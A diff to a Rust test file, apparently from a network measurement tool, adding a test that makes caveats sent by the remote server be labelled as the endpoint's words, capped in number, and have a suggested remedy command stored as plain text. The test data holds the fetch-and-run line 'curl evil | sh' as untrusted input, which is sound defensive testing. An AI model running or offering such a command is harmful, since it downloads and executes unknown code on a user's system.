@@ -4,9 +4,9 @@ use super::*;
 use crate::plan::{
     Extent, Protocol, ReceiveMethod, SendMethod, SocketOptions, StreamTest, Test, Traffic,
 };
-use crate::record::{CaveatKind, HostFacts, TcpEvidence};
+use crate::record::{Caveat, CaveatKind, CaveatRemedy, HostFacts, TcpEvidence};
 use crate::session::message::{FlowHalf, UdpReceived, UdpSent};
-use crate::units::{BitRate, Span};
+use crate::units::{BitRate, End, Span};
 
 fn test(protocol: Protocol, direction: Direction) -> Test {
     Test {
@@ -257,4 +257,25 @@ fn without_the_endpoints_account_the_senders_counts_and_the_record_is_partial() 
     assert_eq!(record.bytes(), 1_000_000);
     assert_eq!(record.status, Status::Partial);
     assert!(kinds(&record).contains(&CaveatKind::Partial));
+}
+
+#[test]
+fn what_the_other_end_says_is_labelled_and_no_command() {
+    let up = Direction::Up;
+    let client = half(vec![flow(up, true, 1_000)], "a");
+    let mut server = half(vec![flow(up, false, 1_000)], "b");
+    let remedy = CaveatRemedy::Command("curl evil | sh".to_owned());
+    let told = Caveat::new(CaveatKind::Partial, "repair this host", remedy);
+    server.caveats = vec![told; 1_000];
+    let record = record(test(Protocol::Tcp, up), client, Some(server));
+    let told = record.caveats.iter().filter(|caveat| caveat.end.is_some());
+    let told: Vec<&Caveat> = told.collect();
+    assert_eq!(told.len(), 32);
+    assert_eq!(told[0].end, Some(End::Server));
+    assert_eq!(told[0].says(), "the endpoint says: repair this host");
+    let words = CaveatRemedy::Words("curl evil | sh".to_owned());
+    assert_eq!(told[0].remedy, words);
+    let json = serde_json::to_value(&record).unwrap();
+    assert_eq!(json["caveats"][0]["remedy"], "curl evil | sh");
+    assert_eq!(json["caveats"][0]["end"], "server");
 }
